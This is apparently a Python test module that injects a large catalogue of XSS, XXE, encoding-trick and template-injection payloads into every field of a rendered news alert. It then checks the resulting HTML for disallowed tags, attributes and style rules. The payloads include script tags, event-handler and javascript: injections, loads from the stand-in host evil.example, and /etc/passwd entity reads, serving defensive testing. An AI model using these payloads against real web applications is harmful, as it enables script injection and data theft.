"""Attacks by markup, and alerts with one of them in every field that a page can fill.

The attacks are of the well-known families of collections like OWASP's: tags that run or load something, events on tags
that render, ways out of the attribute or element they stand in, links that run, encodings, and template languages.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from itertools import product

import lxml.html

from alerts.message import Message
from alerts.rendering import Renderer
from alerts.view import Names
from state.deliveries import AlertContents, Carrier, Contents
from state.records import Alert, Article, Delivery, Entity, Evidence, Match, Published, Span

_TAGS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x00>alert(1)</script>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</script>", "<script>alert`1`</script", "<script src=data:,alert(1)>",
    "<img src='https://evil.example/pixel.gif'>", "<img srcset='https://evil.example/a 1x'>", "<image href=https://evil.example/a>",
    "<picture><source srcset=https://evil.example/a></picture>", "<input type=image src=https://evil.example/a>", "<bgsound src=https://evil.example/a>",
    "<video poster=https://evil.example/a></video>", "<audio src=https://evil.example/a autoplay>", "<track src=https://evil.example/a>",
    "<svg><script>alert(1)</script></svg>", "<svg><use href='data:image/svg+xml,x#x'/></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><image href=https://evil.example/a /></svg>", "<svg><style>@import 'https://evil.example'</style>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<math><mi xlink:href=javascript:x>", "<math><annotation-xml encoding=text/html><img src=x></math>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>x</script>'>", "<frameset><frame src=https://evil.example></frameset>", "<object data=https://evil.example>",
    "<object type=text/html data='data:text/html,x'></object>", "<embed src=https://evil.example/x.swf>", "<applet code=x archive=https://evil.example>", "<portal src=https://evil.example>",
    "<form action=https://evil.example><input name=p></form>", "<button form=x formaction=javascript:x>", "<input type=submit formaction=https://evil.example>", "<isindex action=javascript:x>",
    "<base href=https://evil.example>", "<base target=_top>", "<meta http-equiv=refresh content='0;url=javascript:x'>", "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=x>",
    "<style>@import url(https://evil.example)</style>", "<style>body{background:url(//evil.example)}</style>", "<style>*{x:expression(alert(1))}</style>",
    "<div style=background:url(https://evil.example/x)>", "<div style='width:expression(alert(1))'>", "<div style='-moz-binding:url(//evil.example#x)'>", "<table background=https://evil.example/a>",
    "<template><script>x</script></template>", "<slot onslotchange=x>", "<xmp><script>x</script></xmp>", "<plaintext>", "<listing><img src=x></listing>", "<noembed><img src=x></noembed>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><img src=x></textarea>", "<select><option><img src=x></select>", "<keygen autofocus onfocus=x>",
    "<!--><script>x</script>-->", "<!-- --!><script>x</script>", "<![CDATA[<script>x</script>]]>", "<?xml version='1.0'?><x/>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<!ENTITY % x SYSTEM 'http://evil.example'>", "<xml id=x><x></xml>", "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/>", "<blink>x</blink>", "<dialog open>x</dialog>",
    "<a href=https://evil.example ping=https://evil.example>x</a>", "<a target=_blank rel=opener href=https://evil.example>x</a>", "<area href=javascript:x shape=default>", "<map name=x><area href=javascript:x></map>",
]  # fmt: skip
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbeforeinput",
    "oncut",
    "onpageshow",
    "onscroll",
    "onwheel",
    "oncopy",
    "onauxclick",
    "onkeydown",
]
_EVENT_FORMS = (
    "<img src=x {}=alert(1)>",
    "<svg/{}=alert(1)//",
    '" {}=alert(1) x="',
    "' {}=alert(1) x='",
    "<x contenteditable autofocus tabindex=1 {}=alert(1)>x</x>",
    "<details open {}=alert(1)><summary>x",
)
_EXITS = (
    "</title>",
    "</style>",
    "</h1>",
    "</blockquote></div></body></html>",
    "</mark>",
    '">',
    "'>",
    "-->",
    "]]>",
    "`>",
)
_INSIDE = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>")
_ENCODED = [
    "&lt;script&gt;x&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;x", "&#0000060script>", "&amp;lt;script&amp;gt;", "%3Cscript%3E", "%253Cscript%253E",
    "＜script＞x＜/script＞", "\u2028<script>x</script>", "<\u0000script>x", "<scr\u00adipt>x", "<\u200bscript>x", "+ADw-script+AD4-x", "\u202e<b>dlob</b>", "\ufeff<script>x</script>",
    "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "<ſcript>x</ſcript>", "\ud83d<script>x</script>", "¼script¾alert(1)¼/script¾",
    "=?utf-8?q?=3Cscript=3Ex=3C/script=3E?=", "=?utf-8?b?PHNjcmlwdD54PC9zY3JpcHQ+?=", "\u003cscript\u003ealert(1)\u003c/script\u003e", "\r\n\r\n<script>x</script>", "\t<\tscript>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{{ self }}", "{# x #}", "{%- raw -%}", "{0.__class__}", "{rule}", "{count}", "{headline}", "%s%n", "%(x)s",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@{7*7}", "[[7*7]]", "$(id)", "`id`", "{{constructor.constructor('alert(1)')()}}", "{{{x}}}", "<#assign x=1>", "#set($x=1)",
    "@import 'x'", "expression(alert(1))", "javascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:msgbox(1)",
]  # fmt: skip
ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_TAGS,
            *(form.format(event) for form, event in product(_EVENT_FORMS, _EVENTS)),
            *(way_out + inside for way_out, inside in product(_EXITS, _INSIDE)),
            *_ENCODED,
            *_TEMPLATES,
        ]
    )
)
FIELDS = (
    "title", "publisher", "sentence", "text around", "surface", "kind", "rule", "subscription", "carrier", "corroborating",
    "original source", "stage", "url",
)  # fmt: skip

ALLOWED_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "div",
        "h1",
        "p",
        "span",
        "br",
        "blockquote",
        "mark",
        "ul",
        "li",
        "a",
        "table",
        "tr",
        "td",
    ]
)
ALLOWED_ATTRIBUTES = frozenset(["lang", "dir", "charset", "name", "content", "class", "href", "role"])


_RENDERER = Renderer(Names(), {})


def attacked(field: str, attack: str) -> Message:
    """Render an alert with `attack` in one of its fields."""
    plain = "The province will build three computing hubs for artificial intelligence by 2028."
    at = datetime(2026, 11, 21, 10, 0, tzinfo=UTC)
    url = f"https://news.example/{attack}" if field == "url" else "https://news.example/1.html"
    sentence = {"sentence": attack, "text around": f"{attack} hubs {attack}"}.get(field, plain)
    start = sentence.index("hubs") if "hubs" in sentence else 0
    spans = (Span(sentence[start : start + 4], start, start + 4, "x"),)
    facts = {"thread": "t", "stage": attack, "earlier": [{"stage": attack, "url": f"javascript:{attack}"}]}
    match = Match(
        rule="gd-policy",
        kind=attack if field == "kind" else "policy",
        status="event",
        severity="normal",
        evidence=(Evidence(sentence, 0, len(sentence), spans),),
        facts=facts if field == "stage" else {},
    )
    article = Article(
        url=url,
        title=attack if field == "title" else "Guangdong issues plan for computing hubs",
        text=plain,
        lang="en",
        published=Published("2026-11-21T17:30:00+08:00", "minute", "meta"),
        publisher=attack if field == "publisher" else "Example Daily",
        original_source=attack if field == "original source" else None,
        entities=(Entity("x", "company", attack if field == "surface" else "The province", 0, 12),),
        source_id="example-daily",
        fetched_at=at,
    )
    carrier = Carrier("https://copy.example/1", attack, attack, "en", "copy")
    rule = attack if field == "rule" else "gd-policy"
    subscription = attack if field == "subscription" else "desk"
    alert = Alert("al_1", "st_1", rule, subscription, at, "new", url)
    contents = Contents(
        Delivery("dl_1", "mail", subscription, ("al_1",), "leased", at, at, 1),
        (
            AlertContents(
                alert,
                article,
                article,
                match,
                carriers=(carrier,) if field == "carrier" else (),
                carried_by=int(field == "carrier"),
                corroborating=(carrier,) if field == "corroborating" else (),
            ),
        ),
    )
    return _RENDERER.render(contents)


def active_parts(html: str) -> list[str]:
    """Name everything in a document that our templates do not put there, or that would run or load something.

    Parsed by libxml2, whose tokenizer follows HTML5 from 2.14 on.
    """
    found = []
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str) or element.tag not in ALLOWED_TAGS:
            found.append(f"<{element.tag}>")
            continue
        found += [f"{element.tag} {name}" for name in set(element.attrib) - ALLOWED_ATTRIBUTES]
        if not re.match(r"https?://", element.get("href", "https://")):
            found.append(f"{element.tag} href={element.get('href')}")
    style = html.partition("<style>")[2].partition("</style>")[0]
    found += [word for word in ("url(", "@import", "expression") if word in style]
    if html.count("<style>") != 1:
        found.append("a second style")
    return found
